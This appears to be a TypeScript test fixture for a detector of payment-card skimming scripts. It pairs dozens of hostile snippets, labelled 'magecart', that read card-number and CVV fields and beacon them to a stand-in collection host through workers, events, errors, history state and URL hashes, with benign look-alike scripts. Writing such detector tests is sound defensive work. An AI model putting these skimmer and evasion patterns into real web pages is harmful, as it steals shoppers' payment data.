// Scripts that send themselves what was typed, by events, messages, states and addresses, with their expected verdicts, and
// harmless ones that share a way with them. They are inert: none of them is ever run, and the hosts do not exist.
import type { HonestCase } from './honest-scripts.cases.ts'
import type { ScriptCase } from './score-script.cases.ts'

const TYPED = `{n:document.querySelector('#cc_number').value,c:document.querySelector('#cc_cvv').value}`
const SENDS = `(d=>navigator.sendBeacon('https://collect.example.org/c',JSON.stringify(d)))`
const AT_ORDER = (statements: string): string =>
  `document.querySelector('#place_order').addEventListener('click',function(){${statements}})`
/** A listener that sends the data of a message. */
const H = `function H(e){${SENDS}(e.data)}`
const NUMBER = `document.querySelector('#cc_number').value+document.querySelector('#cc_cvv').value`

/** A worker whose code the script has, and which does this with a message. */
const worker = (code: string): string =>
  `var w=new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`
const ECHO = worker('onmessage=function(e){postMessage(e.data)}')

/** How the script listens, and how it gives itself the data. */
const HOSTILE: readonly (readonly [name: string, listens: string, gives: string])[] = [
  [
    'a worker of its own that answers, listened to before',
    `${ECHO};${H};w.onmessage=H`,
    `w.postMessage(${TYPED})`,
  ],
  [
    'a worker of its own that answers, listened to behind',
    ECHO,
    `w.postMessage(${TYPED});w.onmessage=function(e){${SENDS}(e.data)}`,
  ],
  [
    'a worker of its own that answers, by a listener that is added',
    `${ECHO};${H};w.addEventListener('message',H)`,
    `w.postMessage(${TYPED})`,
  ],
  ...[
    'onmessage=function(e){this.postMessage(e.data)}',
    'onmessage=function(e){e.target.postMessage(e.data)}',
    "onmessage=function(e){eval('post'+'Message(e.data)')}",
    'onmessage=function(e){Promise.resolve(e.data).then(postMessage)}',
    "importScripts('https://cdn.example.org/w.js')",
    '@onmessage=function(e){postMessage(e.data)}',
    'onmessage=function(e){for(var i=0;i<1e9;i++){};postMessage(e.data)}',
  ].map((code): readonly [string, string, string] => [
    `a worker whose code is not followed to its end, ${code}`,
    worker(code),
    `w.postMessage(${TYPED});w.onmessage=function(e){${SENDS}(e.data)}`,
  ]),
  [
    'a class of events',
    `class M extends Event{constructor(card){super('x:m');this.card=card}}addEventListener('x:m',e=>${SENDS}(e.card))`,
    `dispatchEvent(new M(${TYPED}))`,
  ],
  [
    'a class of events that passes on its options',
    `class M extends CustomEvent{}addEventListener('x:m',e=>${SENDS}(e.detail))`,
    `dispatchEvent(new M('x:m',{detail:${TYPED}}))`,
  ],
  [
    'a class of a class of events',
    `class L extends CustomEvent{constructor(d){super('x:m',{detail:d})}}class M extends L{constructor(d){super(d)}}addEventListener('x:m',e=>${SENDS}(e.detail))`,
    `dispatchEvent(new M(${TYPED}))`,
  ],
  ['members of the window', `${H};Object.assign(window,{onmessage:H})`, `postMessage(${TYPED},'*')`],
  [
    'a member of the window, defined',
    `${H};Object.defineProperty(window,'onmessage',{value:H})`,
    `postMessage(${TYPED},'*')`,
  ],
  [
    'members of the window, defined',
    `${H};Object.defineProperties(window,{onmessage:{value:H}})`,
    `postMessage(${TYPED},'*')`,
  ],
  ['a member of the window, set', `${H};Reflect.set(window,'onmessage',H)`, `postMessage(${TYPED},'*')`],
  [
    'a member of the window, defined by Reflect',
    `${H};Reflect.defineProperty(window,'onmessage',{value:H})`,
    `postMessage(${TYPED},'*')`,
  ],
  ['the value of the window', `${H};window.valueOf().onmessage=H`, `postMessage(${TYPED},'*')`],
  ['the window as an object', `${H};Object(window).onmessage=H`, `postMessage(${TYPED},'*')`],
  [
    'a weak reference to the window',
    `${H};new WeakRef(window).deref().onmessage=H`,
    `postMessage(${TYPED},'*')`,
  ],
  ['a weak reference to the card', `var r`, `r=new WeakRef(${TYPED});${SENDS}(r.deref())`],
  [
    'the message of an error',
    `addEventListener('error',e=>${SENDS}(e.message))`,
    `dispatchEvent(new ErrorEvent('error',{message:${NUMBER}}))`,
  ],
  [
    'an error with an object',
    `addEventListener('error',e=>${SENDS}(e.error))`,
    `dispatchEvent(new ErrorEvent('error',{error:${TYPED}}))`,
  ],
  ['an error that is thrown', `onerror=function(m){${SENDS}(m)}`, `throw ${NUMBER}`],
  [
    'an error that is thrown, by a listener',
    `addEventListener('error',e=>${SENDS}(e.error.message))`,
    `throw new Error(${NUMBER})`,
  ],
  ['an error that is reported', `addEventListener('error',e=>${SENDS}(e.error))`, `reportError(${TYPED})`],
  ['a rejection that is caught', '', `Promise.reject(${TYPED}).catch(r=>${SENDS}(r))`],
  [
    'an event of a rejection',
    `addEventListener('unhandledrejection',e=>${SENDS}(e.reason))`,
    `dispatchEvent(new PromiseRejectionEvent('unhandledrejection',{promise:Promise.resolve(),reason:${TYPED}}))`,
  ],
  [
    'an event of the storage',
    `onstorage=e=>${SENDS}(e.newValue)`,
    `dispatchEvent(new StorageEvent('storage',{newValue:${NUMBER}}))`,
  ],
  [
    'the state of the history',
    `addEventListener('popstate',e=>${SENDS}(e.state))`,
    `history.pushState(${TYPED},'');history.back()`,
  ],
  [
    'an event of the history',
    `onpopstate=e=>${SENDS}(e.state)`,
    `dispatchEvent(new PopStateEvent('popstate',{state:${TYPED}}))`,
  ],
  [
    'the end of the address',
    `addEventListener('hashchange',e=>${SENDS}(e.newURL))`,
    `location.hash=${NUMBER}`,
  ],
  [
    'the end of the address, read again',
    `onhashchange=()=>${SENDS}(location.hash.slice(1))`,
    `location.hash=${NUMBER}`,
  ],
  ['the state of the history, read behind', '', `history.replaceState(${TYPED},'');${SENDS}(history.state)`],
  [
    'the whole address, read behind',
    '',
    `history.replaceState(null,'','#'+${NUMBER});${SENDS}(location.href)`,
  ],
  [
    'the last of many listeners of an event',
    `for(var i=0;i<40;i++)addEventListener('x:m',function(){});addEventListener('x:m',e=>${SENDS}(e.detail))`,
    `dispatchEvent(new CustomEvent('x:m',{detail:${TYPED}}))`,
  ],
  [
    'the last of many listeners of an event, each of its own',
    `${Array.from({ length: 40 }, (_, i) => `addEventListener('x:m',function(e){a=${i}})`).join(';')};addEventListener('x:m',e=>${SENDS}(e.detail))`,
    `dispatchEvent(new CustomEvent('x:m',{detail:${TYPED}}))`,
  ],
  [
    'an event behind many of the same name',
    `addEventListener('x:m',e=>${SENDS}(e.detail));for(var i=0;i<200;i++)dispatchEvent(new CustomEvent('x:m',{detail:i}))`,
    `dispatchEvent(new CustomEvent('x:m',{detail:${TYPED}}))`,
  ],
  [
    'an event behind thousands of other listeners',
    `${Array.from({ length: 5100 }, (_, i) => `onblur=()=>${i}`).join(';')};addEventListener('x:m',e=>${SENDS}(e.detail))`,
    `dispatchEvent(new CustomEvent('x:m',{detail:${TYPED}}))`,
  ],
  [
    'an event behind many others',
    `for(var i=0;i<700;i++)addEventListener('x:'+i,function(){});addEventListener('x:m',e=>${SENDS}(e.detail))`,
    `dispatchEvent(new CustomEvent('x:m',{detail:${TYPED}}))`,
  ],
  [
    'an event behind many that are dispatched before',
    '',
    `for(var i=0;i<700;i++)dispatchEvent(new CustomEvent('x:'+i,{detail:i}));dispatchEvent(new CustomEvent('x:m',{detail:${TYPED}}));addEventListener('x:m',e=>${SENDS}(e.detail))`,
  ],
  [
    'an event with a long name',
    `var n='x'.repeat(300);addEventListener(n,e=>${SENDS}(e.detail))`,
    `dispatchEvent(new CustomEvent(n,{detail:${TYPED}}))`,
  ],
]

/** Ways to set a handler of a form, which then sends the card. */
const HANDLERS = [
  `Object.assign(document.querySelector('#cc_number'),{onchange:S})`,
  `Object.defineProperty(document.querySelector('#cc_number'),'onchange',{value:S})`,
  `Reflect.set(document.querySelector('#cc_number'),'onchange',S)`,
]

export const OWN_MESSAGE_CASES: readonly ScriptCase[] = [
  ...HOSTILE.map(([by, listens, gives]): ScriptCase => ({
    name: `a card that a script gives itself by ${by}`,
    source: `${listens};${AT_ORDER(gives)}`,
    head: 'magecart',
  })),
  ...HANDLERS.map((sets): ScriptCase => ({
    name: `a card that a handler sends, by ${sets.replace(/\(.*/u, '')}`,
    source: `function S(e){${SENDS}(e.target.value)};${sets}`,
    head: 'magecart',
  })),
]

export const HONEST_OWN_MESSAGES: readonly HonestCase[] = [
  {
    name: 'a card that a worker of the script checks, and whose answer is counted',
    source: `${worker('function ok(n){for(var s=0,i=0;i<n.length;i++)s+=Number(n[i]);return s%10===0}onmessage=function(e){postMessage(ok(e.data))}')};w.onmessage=function(e){navigator.sendBeacon('https://stats.example.org/ok',e.data?1:0)};document.querySelector('#cc_number').onchange=function(){w.postMessage(this.value)}`,
  },
  {
    name: 'a worker of the script that sorts, listened to before',
    source: `${worker('onmessage=function(e){postMessage(e.data.sort())}')};w.addEventListener('message',function(e){draw(e.data);navigator.sendBeacon('https://stats.example.org/n',e.data.length)});document.querySelector('#filter').onchange=function(){w.postMessage([this.value].concat(rows))}`,
  },
  {
    name: 'a class of events with a step of the checkout, which is counted',
    source: `class Step extends Event{constructor(name,form){super('checkout:step');this.step=name;this.form=form}}addEventListener('checkout:step',e=>navigator.sendBeacon('https://stats.example.org/s',e.step));${AT_ORDER(`dispatchEvent(new Step('pay',${TYPED}))`)}`,
  },
  {
    name: 'handlers of the window by Object.assign, and a card for the own site',
    source: `Object.assign(window,{onmessage:e=>{if(e.data.height)document.querySelector('#frame').height=e.data.height},onerror:m=>navigator.sendBeacon('https://log.example.net/e',m)});${AT_ORDER(`fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`)}`,
  },
  {
    name: 'a weak reference to a dialog, whose opening is counted',
    source: `var r=new WeakRef(document.querySelector('#dialog'));document.querySelector('#open').onclick=function(){var d=r.deref();if(d){d.showModal();navigator.sendBeacon('https://stats.example.org/d',d.id)}}`,
  },
  {
    name: 'errors and rejections that are logged, beside a card for the own site',
    source: `addEventListener('error',e=>navigator.sendBeacon('https://log.example.net/e',e.message+e.filename));addEventListener('unhandledrejection',e=>navigator.sendBeacon('https://log.example.net/r',String(e.reason)));${AT_ORDER(`fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})}).then(r=>r.ok?r.json():Promise.reject(new Error('paying failed: '+r.status)))`)}`,
  },
  {
    name: 'an error about a card that is not valid, which the form shows',
    source: `document.querySelector('#cc_number').onchange=function(){try{if(this.value.length<12)throw new Error('too short: '+this.value)}catch(e){document.querySelector('#message').textContent=e.message}};addEventListener('error',e=>navigator.sendBeacon('https://log.example.net/e',e.message))`,
  },
  {
    name: 'a rejection of a card, which the form shows',
    source: `const check=n=>n.length<12?Promise.reject('too short: '+n):Promise.resolve(n);document.querySelector('#cc_number').onchange=function(){check(this.value).catch(m=>{document.querySelector('#message').textContent=m})};addEventListener('unhandledrejection',e=>navigator.sendBeacon('https://log.example.net/r',e.reason.stack))`,
  },
  ...[
    `document.querySelector('#place_order').onclick=function(){check(document.querySelector('#cc_number').value).then(v=>pay(v)).catch(e=>{document.querySelector('#m').textContent=e})}`,
    `document.querySelector('#place_order').onclick=async function(){try{await check(document.querySelector('#cc_number').value);pay()}catch(e){document.querySelector('#m').textContent=e}}`,
    `document.querySelector('#place_order').onclick=function(){Promise.all([check(document.querySelector('#cc_number').value)]).then(pay).catch(e=>{document.querySelector('#m').textContent=e})}`,
    `var p=check(document.querySelector('#cc_number').value);p.then(pay);document.querySelector('#m').onclick=()=>p.catch(e=>{document.querySelector('#m').textContent=e})`,
  ].map((checks, index) => ({
    name: `a check of a card that rejects, beside a log of rejections (${index + 1})`,
    source: `addEventListener('unhandledrejection',e=>navigator.sendBeacon('https://log.example.net/r',String(e.reason)));const check=v=>new Promise((y,n)=>{v.length>12?y(v):n(v+' is no card')});${checks}`,
  })),
  {
    name: 'a failed request with the members of its error, beside a log of rejections',
    source: `addEventListener('unhandledrejection',e=>navigator.sendBeacon('https://log.example.net/r',String(e.reason)));function post(u,b){return new Promise((y,n)=>{var x=new XMLHttpRequest;x.open('POST',u);x.onload=()=>{var res={status:x.status,data:x.response,config:{url:u,data:b},request:x};x.status===200?y(res):n(Object.assign(new Error('HTTP '+x.status),{response:res}))};x.send(b)})}document.querySelector('#place_order').onclick=()=>post('/api/pay',document.querySelector('#cc_number').value).then(r=>alert(r));`,
  },
  {
    name: 'a search in the address, counted views of pages, and two fields of a card for the own site',
    source: `document.querySelector('#q').addEventListener('change',function(){history.replaceState(null,'','?q='+encodeURIComponent(this.value));track()});function track(){navigator.sendBeacon('https://stats.example.org/v',JSON.stringify({u:location.href,r:document.referrer}))}track();${AT_ORDER(`fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`)}`,
  },
  {
    name: 'an event of a card field, and a listener of a search field',
    source: `function setValue(el,v){el.value=v;el.dispatchEvent(new InputEvent('input',{data:v,bubbles:true}))}document.querySelector('#cc_number').onblur=function(){setValue(this,this.value.trim())};document.querySelector('#search').addEventListener('input',e=>{fetch('https://search.example.net/?q='+e.target.value)});`,
  },
  {
    name: 'a theme of another window, which is counted, beside a draft that is stored',
    source: `addEventListener('storage',e=>{if(e.key==='theme')navigator.sendBeacon('https://stats.example.org/t',e.newValue)});document.querySelector('#cc_number').onchange=function(){localStorage.setItem('draft',this.value)}`,
  },
  {
    name: 'pages of a site without loading, which are counted with their state',
    source: `addEventListener('popstate',e=>navigator.sendBeacon('https://stats.example.org/p',JSON.stringify(e.state)+location.pathname));document.querySelectorAll('a.page').forEach(a=>{a.onclick=e=>{e.preventDefault();history.pushState({page:a.dataset.page},'',a.href);fetch(a.href).then(r=>r.text()).then(t=>{document.querySelector('#main').innerHTML=t})}});${AT_ORDER(`fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`)}`,
  },
  {
    name: 'a tab in the end of the address, which is counted, beside a card for the own site',
    source: `addEventListener('hashchange',e=>navigator.sendBeacon('https://stats.example.org/h',e.newURL));document.querySelectorAll('.tab').forEach(t=>{t.onclick=()=>{location.hash=t.dataset.tab}});${AT_ORDER(`fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`)}`,
  },
  {
    name: 'a search in the address, and a count of visited addresses',
    source: `document.querySelector('#search').oninput=function(){history.replaceState({q:this.value},'','?q='+encodeURIComponent(this.value))};addEventListener('popstate',function(){navigator.sendBeacon('https://stats.example.org/v',location.href)})`,
  },
  {
    name: 'many listeners of an event with the issuer of a card, which is counted',
    source: `${Array.from({ length: 40 }, (_, i) => `addEventListener('card:issuer',function(e){a=${i}})`).join(';')};addEventListener('card:issuer',e=>navigator.sendBeacon('https://stats.example.org/i',e.detail));document.querySelector('#cc_number').oninput=function(){dispatchEvent(new CustomEvent('card:issuer',{detail:/^4/.test(this.value)?'visa':'other'}))}`,
  },
  {
    name: 'a form whose handler is set by Object.assign, for the own site',
    source: `Object.assign(document.querySelector('#checkout'),{onsubmit(e){e.preventDefault();fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})}})`,
  },
]
